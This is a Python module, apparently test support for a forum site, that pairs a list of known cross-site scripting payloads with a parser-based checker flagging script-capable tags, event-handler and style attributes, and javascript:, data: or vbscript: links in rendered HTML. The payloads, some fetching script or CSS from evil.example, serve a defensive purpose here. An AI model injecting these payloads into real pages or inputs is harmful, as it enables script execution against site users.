"""Known XSS payloads, and a checker that a page carries none of them live.

The checker parses the page as a browser would and fails on anything that runs:
an element that can carry script or a foreign document, an event-handler or
style attribute, or a link/source whose scheme is javascript:, data: or vbscript:.
Escaped text (what a payload becomes when rendered inert) is only text to it.
"""

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<p onmouseover="alert(1)">悬停</p>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1)>点我</x>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](&#106;avascript:alert(1))",
    "[点我]( javascript:alert(1) )",
    "[点我](vbscript:msgbox(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![图](javascript:alert(1))",
    "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![图](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "[点我][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://example.org" onclick="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "**<svg/onload=alert(1)>**",
    "@张明<script>alert(1)</script>",
    "{{ 7*7 }}{% now 'Y' %}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;'
        ':alert(1)">x</a>'
    ),
]

BANNED_TAGS = {
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "img",
    "style",
    "base",
    "meta",
    "video",
    "audio",
    "source",
    "marquee",
    "details",
    "x",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "data"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
OUR_SCRIPTS = {
    "/static/bootstrap/js/bootstrap.bundle.min.js",
    "/static/js/forum-mentions.js",
}


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = True

    def handle_starttag(self, tag, attrs):
        if tag == "body":
            self.in_head = False
        attributes = dict(attrs)
        if tag in BANNED_TAGS and not (self.in_head and tag == "meta"):
            self.problems.append(f"<{tag}>")
        if tag == "script" and attributes.get("src") not in OUR_SCRIPTS:
            self.problems.append("<script>")
        if tag == "link" and not self.in_head:
            self.problems.append("<link> in body")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style":
                self.problems.append(f"{tag} style=")
            if name in URL_ATTRIBUTES and value:
                squeezed = "".join(ch for ch in value if ch > " ").lower()
                if squeezed.startswith(BAD_SCHEMES):
                    self.problems.append(f"{tag} {name}={value!r}")

    handle_startendtag = handle_starttag


def live_problems(html: str) -> list[str]:
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems
